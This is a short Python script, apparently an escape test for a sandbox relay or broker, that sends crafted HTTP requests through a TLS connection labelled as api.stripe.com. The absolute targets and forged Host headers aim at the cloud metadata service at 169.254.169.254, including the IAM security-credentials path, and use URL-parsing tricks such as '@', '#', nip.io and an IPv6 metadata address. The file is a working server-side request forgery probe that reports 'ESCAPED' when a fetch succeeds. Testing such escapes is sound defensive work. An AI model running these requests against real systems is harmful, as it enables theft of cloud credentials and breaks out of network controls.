# attack: relay and broker may reach metadata services; a Host header or an absolute target asks them to fetch it
# expect: broker
# validator: refused
import socket
import ssl

TARGETS = (
    "http://169.254.169.254/latest/meta-data/",
    "//169.254.169.254/latest/meta-data/",
    "/latest/meta-data/iam/security-credentials/",
    "/2018-06-01/runtime/invocation/next",
    "@169.254.169.254/latest/",
    ".169.254.169.254.nip.io/",
    ":80@169.254.169.254/",
)
HOSTS = (
    "api.stripe.com",
    "169.254.169.254",
    "api.stripe.com@169.254.169.254",
    "169.254.169.254#api.stripe.com",
    "[fd00:ec2::254]",
)


def ask(target, host):
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        tls.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return tls.recv(65536)


for target in TARGETS:
    for host in HOSTS:
        try:
            answer = ask(target, host)
            if b" 200 " in answer[:20]:
                print("ESCAPED: the broker fetched", target, "for", host, answer[:60], flush=True)
            else:
                print(target, host, answer[-120:])
        except OSError as error:
            print(target, host, error)
